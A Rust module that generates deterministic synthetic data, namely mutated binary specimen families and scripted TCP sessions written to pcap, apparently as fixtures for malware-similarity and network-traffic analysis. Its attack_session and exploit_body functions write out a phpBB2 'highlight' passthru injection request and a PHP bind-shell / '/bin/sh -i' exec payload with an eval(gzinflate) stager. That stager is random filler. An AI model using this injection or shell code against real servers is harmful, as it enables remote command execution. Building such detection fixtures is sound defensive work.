//! Deterministic synthetic data: specimen corpora with family structure,
//! text and random payloads, and scripted TCP sessions rendered to pcap.
//!
//! Everything here is seeded; the same arguments always produce the same bytes.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

use rand::seq::IndexedRandom;
use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha20Rng;

use crate::similarity::Sample;
use crate::traffic::pcap::{CaptureWriter, TcpFlags, TcpSegmentSpec};
use crate::traffic::Direction;

fn rng(seed: u64) -> ChaCha20Rng {
    ChaCha20Rng::seed_from_u64(seed)
}

/// `len` bytes from a ChaCha20 stream.
pub fn random_bytes(len: usize, seed: u64) -> Vec<u8> {
    let mut out = vec![0u8; len];
    rng(seed).fill_bytes(&mut out);
    out
}

const WORDS: &[&str] = &[
    "the",
    "of",
    "and",
    "to",
    "in",
    "is",
    "that",
    "for",
    "it",
    "as",
    "was",
    "with",
    "be",
    "by",
    "on",
    "not",
    "he",
    "this",
    "are",
    "or",
    "his",
    "from",
    "at",
    "which",
    "but",
    "have",
    "an",
    "had",
    "they",
    "you",
    "were",
    "their",
    "one",
    "all",
    "we",
    "can",
    "her",
    "has",
    "there",
    "been",
    "if",
    "more",
    "when",
    "will",
    "would",
    "who",
    "so",
    "no",
    "river",
    "morning",
    "letter",
    "window",
    "garden",
    "station",
    "market",
    "people",
    "water",
    "house",
    "country",
    "little",
    "between",
    "before",
    "under",
    "through",
    "another",
    "evening",
    "mountain",
    "question",
    "answer",
    "remember",
    "children",
    "together",
    "something",
    "important",
    "government",
    "different",
    "especially",
    "following",
    "sometimes",
    "picture",
    "quickly",
    "wonderful",
    "stranger",
    "business",
    "yesterday",
    "journey",
    "captain",
    "kitchen",
    "library",
    "weather",
    "history",
    "silence",
    "thousand",
    "village",
    "harbour",
    "winter",
    "summer",
    "travel",
    "ancient",
    "bright",
    "careful",
    "distant",
    "familiar",
    "gentle",
    "heavy",
    "narrow",
    "quiet",
    "simple",
    "strong",
    "usual",
    "walked",
    "opened",
    "looked",
    "carried",
    "followed",
    "listened",
    "noticed",
    "waited",
    "turned",
    "believed",
    "explained",
    "returned",
    "decided",
    "painted",
    "written",
    "across",
    "behind",
    "beyond",
    "during",
    "toward",
    "without",
    "almost",
    "always",
    "perhaps",
    "rather",
    "seldom",
    "slowly",
];

/// English-like word salad of exactly `len` bytes.
pub fn prose(len: usize, seed: u64) -> Vec<u8> {
    let mut r = rng(seed);
    let mut out = Vec::with_capacity(len + 16);
    let mut sentence_start = true;
    while out.len() < len {
        let word = WORDS.choose(&mut r).unwrap().as_bytes();
        if sentence_start {
            out.push(word[0].to_ascii_uppercase());
            out.extend_from_slice(&word[1..]);
            sentence_start = false;
        } else {
            out.extend_from_slice(word);
        }
        match r.random_range(0..12) {
            0 => {
                out.extend_from_slice(b". ");
                sentence_start = true;
            }
            1 => out.extend_from_slice(b", "),
            _ => out.push(b' '),
        }
    }
    out.truncate(len);
    out
}

const PARAGRAPH: &str = "The morning train left the station before the market opened, and the \
people on the platform watched the river turn silver under a quiet winter sky. ";

/// A fixed paragraph repeated to `len` bytes; compresses extremely well.
pub fn repeated_text(len: usize) -> Vec<u8> {
    PARAGRAPH.bytes().cycle().take(len).collect()
}

/// Overwrites `round(fraction * len)` distinct positions with random bytes.
pub fn mutate(data: &[u8], fraction: f64, seed: u64) -> Vec<u8> {
    let mut r = rng(seed);
    let mut out = data.to_vec();
    let count = ((data.len() as f64) * fraction.clamp(0.0, 1.0)).round() as usize;
    for pos in rand::seq::index::sample(&mut r, data.len(), count) {
        out[pos] = r.random();
    }
    out
}

/// A binary-looking specimen: instruction-like runs over a seed-specific
/// skewed alphabet, embedded string tables and zero padding.
pub fn specimen(len: usize, seed: u64) -> Vec<u8> {
    let mut r = rng(seed);
    let mut alphabet = [0u8; 64];
    r.fill_bytes(&mut alphabet);
    let mut out = Vec::with_capacity(len + 2048);
    while out.len() < len {
        match r.random_range(0..20) {
            0..=11 => {
                let n = r.random_range(200..1500);
                for _ in 0..n {
                    // min of two draws skews towards the front of the alphabet
                    let i = r.random_range(0..64).min(r.random_range(0..64));
                    out.push(alphabet[i]);
                }
            }
            12..=16 => {
                let n = r.random_range(100..600);
                out.extend(prose(n, r.next_u64()));
                out.push(0);
            }
            _ => {
                let n = r.random_range(16..256);
                out.extend(std::iter::repeat_n(0u8, n));
            }
        }
    }
    out.truncate(len);
    out
}

/// `families` x `variants` specimens. Each family has its own base of `len`
/// bytes; every variant is an independently mutated copy.
///
/// Ids are `fam{f}_v{v}`, families `fam{f}`.
pub fn family_corpus(families: usize, variants: usize, len: usize, mutation: f64, seed: u64) -> Vec<Sample> {
    let mut out = Vec::with_capacity(families * variants);
    for f in 0..families {
        let base_seed = seed.wrapping_mul(1_000_003).wrapping_add(f as u64);
        let base = specimen(len, base_seed);
        for v in 0..variants {
            let data = mutate(&base, mutation, base_seed ^ ((v as u64 + 1) << 32));
            let id = format!("fam{f}_v{v}");
            out.push(
                Sample::new(id.clone(), data)
                    .expect("non-empty")
                    .with_family(format!("fam{f}"))
                    .with_source(format!("synthetic:{id}")),
            );
        }
    }
    out
}

/// `n` samples of independent random bytes, each in a family of its own.
pub fn random_corpus(n: usize, len: usize, seed: u64) -> Vec<Sample> {
    (0..n)
        .map(|i| {
            let id = format!("rng{i}");
            Sample::new(id.clone(), random_bytes(len, seed.wrapping_add(i as u64 * 7919)))
                .expect("non-empty")
                .with_family(id)
        })
        .collect()
}

/// A scripted TCP conversation: handshake, data exchanges, orderly close.
#[derive(Debug, Clone)]
pub struct SessionScript {
    pub client: SocketAddrV4,
    pub server: SocketAddrV4,
    pub exchanges: Vec<(Direction, Vec<u8>)>,
    pub start: Duration,
    pub mss: usize,
    pub client_isn: u32,
    pub server_isn: u32,
}

impl SessionScript {
    pub fn new(client: SocketAddrV4, server: SocketAddrV4) -> Self {
        let isn_seed = (u32::from(*client.ip()) as u64) << 16 ^ client.port() as u64;
        Self {
            client,
            server,
            exchanges: Vec::new(),
            start: Duration::from_secs(1_700_000_000),
            mss: 1400,
            client_isn: (isn_seed.wrapping_mul(2_654_435_761) >> 7) as u32,
            server_isn: (isn_seed.wrapping_mul(40_503) >> 3) as u32 ^ 0x5a5a_0000,
        }
    }

    pub fn at(mut self, start: Duration) -> Self {
        self.start = start;
        self
    }

    pub fn send(mut self, dir: Direction, data: impl Into<Vec<u8>>) -> Self {
        self.exchanges.push((dir, data.into()));
        self
    }

    pub fn client_payload(&self) -> Vec<u8> {
        self.payload(Direction::ToServer)
    }

    pub fn server_payload(&self) -> Vec<u8> {
        self.payload(Direction::ToClient)
    }

    fn payload(&self, dir: Direction) -> Vec<u8> {
        self.exchanges.iter().filter(|(d, _)| *d == dir).flat_map(|(_, b)| b.iter().copied()).collect()
    }

    /// Segments in transmission order, 1 ms apart.
    pub fn segments(&self) -> Vec<TcpSegmentSpec> {
        let mut out = Vec::new();
        let mut cseq = self.client_isn;
        let mut sseq = self.server_isn;
        let mut t = self.start;
        let tick = Duration::from_millis(1);
        let (c, s) = (self.client, self.server);
        let mut push = |out: &mut Vec<TcpSegmentSpec>, spec: TcpSegmentSpec| {
            out.push(TcpSegmentSpec { timestamp: t, ..spec });
            t += tick;
        };

        push(&mut out, TcpSegmentSpec::new(c, s, cseq, 0, TcpFlags::SYN, Vec::new()));
        cseq = cseq.wrapping_add(1);
        push(&mut out, TcpSegmentSpec::new(s, c, sseq, cseq, TcpFlags::SYN | TcpFlags::ACK, Vec::new()));
        sseq = sseq.wrapping_add(1);
        push(&mut out, TcpSegmentSpec::new(c, s, cseq, sseq, TcpFlags::ACK, Vec::new()));

        for (dir, data) in &self.exchanges {
            for chunk in data.chunks(self.mss.max(1)) {
                let spec = match dir {
                    Direction::ToServer => {
                        let spec = TcpSegmentSpec::new(c, s, cseq, sseq, TcpFlags::ACK | TcpFlags::PSH, chunk.to_vec());
                        cseq = cseq.wrapping_add(chunk.len() as u32);
                        spec
                    }
                    _ => {
                        let spec = TcpSegmentSpec::new(s, c, sseq, cseq, TcpFlags::ACK | TcpFlags::PSH, chunk.to_vec());
                        sseq = sseq.wrapping_add(chunk.len() as u32);
                        spec
                    }
                };
                push(&mut out, spec);
            }
        }

        push(&mut out, TcpSegmentSpec::new(c, s, cseq, sseq, TcpFlags::FIN | TcpFlags::ACK, Vec::new()));
        cseq = cseq.wrapping_add(1);
        push(&mut out, TcpSegmentSpec::new(s, c, sseq, cseq, TcpFlags::FIN | TcpFlags::ACK, Vec::new()));
        sseq = sseq.wrapping_add(1);
        push(&mut out, TcpSegmentSpec::new(c, s, cseq, sseq, TcpFlags::ACK, Vec::new()));
        out
    }
}

/// Renders scripts one after another into a classic pcap capture.
pub fn capture(scripts: &[SessionScript]) -> Vec<u8> {
    let mut w = CaptureWriter::new();
    for script in scripts {
        for seg in script.segments() {
            w.push(&seg);
        }
    }
    w.finish()
}

pub fn endpoint(a: u8, b: u8, c: u8, d: u8, port: u16) -> SocketAddrV4 {
    SocketAddrV4::new(Ipv4Addr::new(a, b, c, d), port)
}

/// Chat-like plaintext session: client sends `len` bytes of repeated text,
/// server answers with a short acknowledgement.
pub fn text_session(index: u16, port: u16, len: usize) -> SessionScript {
    SessionScript::new(endpoint(10, 0, 0, 2, 40000 + index), endpoint(10, 0, 1, 1, port))
        .at(Duration::from_secs(1_700_000_000 + index as u64 * 10))
        .send(Direction::ToServer, repeated_text(len))
}

/// Session whose payload is `len` random bytes, like an encrypted channel.
pub fn rng_session(index: u16, port: u16, len: usize, seed: u64) -> SessionScript {
    SessionScript::new(endpoint(10, 0, 0, 3, 41000 + index), endpoint(10, 0, 1, 2, port))
        .at(Duration::from_secs(1_700_000_000 + index as u64 * 10))
        .send(Direction::ToServer, random_bytes(len, seed))
}

/// Options of the synthetic web-application exploit.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackVariant {
    /// Original recording: bind a shell to a listening port.
    BindShell,
    /// Same exploit, shell port changed.
    BindShellOtherPort,
    /// Same exploit, command executed directly instead of binding.
    ExecShell,
}

fn exploit_body(variant: AttackVariant) -> String {
    // The stager is large and fixed, as in a real exploit kit; the options
    // change only a few lines.
    let (mode, arg) = match variant {
        AttackVariant::BindShell => ("bind", "31337"),
        AttackVariant::BindShellOtherPort => ("bind", "4444"),
        AttackVariant::ExecShell => ("exec", "/bin/sh -i"),
    };
    let stager: String = random_bytes(1800, 0xA77AC4)
        .chunks(3)
        .map(|c| {
            const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            let v = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
            (0..4).map(|k| B64[((v >> (18 - 6 * k)) & 63) as usize] as char).collect::<String>()
        })
        .collect();
    let mut body = String::new();
    body.push_str("<?php error_reporting(0); set_time_limit(0); ignore_user_abort(1);\n");
    body.push_str("$k=\"x9f\"; $p=base64_decode(\"");
    body.push_str(&stager);
    body.push_str("\");\n");
    match mode {
        "bind" => {
            body.push_str(&format!(
                "$s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP); socket_bind($s,\"0.0.0.0\",{arg});\n\
                 socket_listen($s,1); $c=socket_accept($s); while(1){{ $cmd=socket_read($c,2048);\n\
                 socket_write($c,shell_exec($cmd)); }}\n"
            ));
        }
        _ => {
            body.push_str(&format!("$o=array(); exec(\"{arg}\", $o); foreach($o as $l){{ echo $l.\"\\n\"; }}\n"));
        }
    }
    body.push_str("eval(gzinflate($p ^ str_repeat($k, strlen($p))));\n?>");
    body
}

/// HTTP exploit session against a PHP application on port 80.
pub fn attack_session(variant: AttackVariant, index: u16) -> SessionScript {
    let body = exploit_body(variant);
    let request = format!(
        "POST /phpBB2/viewtopic.php?t=1&highlight=%2527.passthru($HTTP_GET_VARS[cmd]).%2527 HTTP/1.0\r\n\
         Host: webserver\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{}",
        body.len(),
        body
    );
    let response = "HTTP/1.1 200 OK\r\nServer: Apache/1.3.29 (Unix) PHP/4.3.4\r\n\
                    Content-Type: text/html\r\nConnection: close\r\n\r\n\
                    <html><body>Topic not found.</body></html>\n";
    SessionScript::new(endpoint(192, 168, 7, 66, 33000 + index), endpoint(10, 0, 1, 80, 80))
        .at(Duration::from_secs(1_700_100_000 + index as u64 * 10))
        .send(Direction::ToServer, request.into_bytes())
        .send(Direction::ToClient, response.as_bytes().to_vec())
}

/// A client mirroring an ordinary site: several GETs answered with HTML
/// pages, about 8 KiB in total.
pub fn web_session(index: u16, seed: u64) -> SessionScript {
    let mut r = rng(seed);
    let mut script = SessionScript::new(endpoint(10, 0, 2, 9, 45000 + index), endpoint(10, 0, 1, 80, 80))
        .at(Duration::from_secs(1_700_200_000 + index as u64 * 10));
    let pages = ["index.html", "about.html", "news/archive.html", "contact.html", "style/site.css"];
    let mut total = 0;
    while total < 8 * 1024 {
        let page = pages.choose(&mut r).unwrap();
        let req = format!(
            "GET /{page} HTTP/1.0\r\nHost: www.example.org\r\nUser-Agent: Wget/1.9.1\r\n\
             Accept: */*\r\nConnection: Keep-Alive\r\n\r\n"
        );
        let body_len = r.random_range(1200..2400);
        let mut body = String::from("<html><head><title>");
        body.push_str(page);
        body.push_str("</title></head><body>\n");
        for para in prose(body_len, r.next_u64()).split(|&b| b == b'.') {
            body.push_str("<p>");
            body.push_str(&String::from_utf8_lossy(para));
            body.push_str("</p>\n");
        }
        body.push_str("</body></html>\n");
        let resp = format!(
            "HTTP/1.1 200 OK\r\nServer: Apache/2.0.48\r\nContent-Type: text/html\r\n\
             Content-Length: {}\r\n\r\n{}",
            body.len(),
            body
        );
        total += req.len() + resp.len();
        script = script.send(Direction::ToServer, req.into_bytes()).send(Direction::ToClient, resp.into_bytes());
    }
    script
}
